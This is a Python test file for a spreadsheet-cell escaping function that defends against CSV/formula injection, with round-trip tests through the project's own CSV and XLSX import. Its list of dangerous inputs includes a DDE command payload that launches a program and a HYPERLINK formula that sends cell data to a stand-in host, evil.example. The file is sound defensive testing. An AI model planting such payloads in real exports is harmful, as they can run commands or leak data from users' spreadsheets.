"""What we write into a table is never run as a formula, and comes back as it was."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from isonomy.base.files.safe_cell import plain_cell, safe_cell
from isonomy.exchange.reading.tables import read_tables
from isonomy.exchange.reading.target import Field
from isonomy.exchange.reading.values import parse_value
from tests.exchange.making import csv_text, xlsx

DANGEROUS = [
    "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", " =1", "＝1+1", "'=1", "-",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
]  # fmt: skip
HARMLESS = ["plain", "-5", "+3.2", "-12,5%", "'quoted'", "a=b", "", "O'Neill", "5 - 3"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_could_run_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@given(st.text(alphabet=st.sampled_from("'=+-@ \ta1＝\n"), max_size=8) | st.text(max_size=20))
def test_every_text_comes_back_unchanged(text: str) -> None:
    assert plain_cell(safe_cell(text)) == text
    assert not safe_cell(text).startswith(("=", "@", "\t", "\r", "＝"))


@pytest.mark.parametrize("make", [lambda rows: csv_text(rows).encode(), xlsx])
def test_our_own_export_comes_back_through_our_own_import(make: object) -> None:
    texts = ["=1+1", "'=1", "-2+3", "plain", "@x", "'quoted'"]
    data = make([["Nr", "Note"], *[[str(n), safe_cell(text)] for n, text in enumerate(texts)]])  # type: ignore[operator]
    [table] = read_tables(data)
    assert [parse_value(Field("note", "Note"), row.cells[1]) for row in table.rows] == texts
